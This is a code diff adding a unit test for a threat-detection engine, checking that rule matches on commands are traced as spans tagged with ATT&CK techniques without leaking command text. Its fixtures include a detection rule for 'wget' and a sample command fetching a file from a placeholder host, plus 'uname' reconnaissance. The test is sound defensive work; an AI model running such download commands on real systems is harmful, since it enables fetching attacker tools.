@@ -91,3 +91,33 @@ describe("evaluateBlock", () => {
     expect({ tags: r.tags, jsonl: r.jsonl.byteLength, rows: r.rows }).toEqual({ tags: 2, jsonl: 0, rows: null });
   });
 });
+
+describe("evaluateBlock tracing (SPEC §3.4)", () => {
+  it("records one ttp.eval span per block with counts and a ttp.rule.fire child per rule that fired; no payload content", async () => {
+    const { installSpanRecorder } = await import("../store/testing/spans");
+    const engine = engineWith(
+      ruleYaml("R1", { pattern: "uname", confidence: 0.8 }),
+      ruleYaml("R2", { pattern: "wget", technique: "T1105", tactic: "TA0011", confidence: 0.2 }),
+    );
+    const text = [cmd("c1", "uname -a"), cmd("c2", "wget http://secret.example/x"), cmd("c3", "uname -r"), "not json"].join("\n");
+    const recorder = installSpanRecorder();
+    let r;
+    try {
+      r = evaluateBlock(block(text), engine, opts);
+    } finally {
+      recorder.uninstall();
+    }
+    expect(r.events).toBe(3);
+    const evalSpans = recorder.spans.filter((s) => s.name === "ttp.eval");
+    expect(evalSpans).toHaveLength(1);
+    const root = evalSpans[0]!;
+    expect(root.attributes).toMatchObject({ "ttp.events": 3, "ttp.tags": 2, "ttp.tags_below_floor": 1, "ttp.malformed": 1 });
+    const fires = recorder.spans.filter((s) => s.name === "ttp.rule.fire");
+    expect(fires.map((s) => [s.attributes.rule_id, s.attributes["ttp.fires"], s.parent === root]).sort()).toEqual([
+      ["R1", 2, true],
+      ["R2", 1, true],
+    ]);
+    expect(recorder.spans.every((s) => s.ended)).toBe(true);
+    expect(JSON.stringify(recorder.spans.map((s) => s.attributes))).not.toMatch(/uname|wget|secret/);
+  });
+});
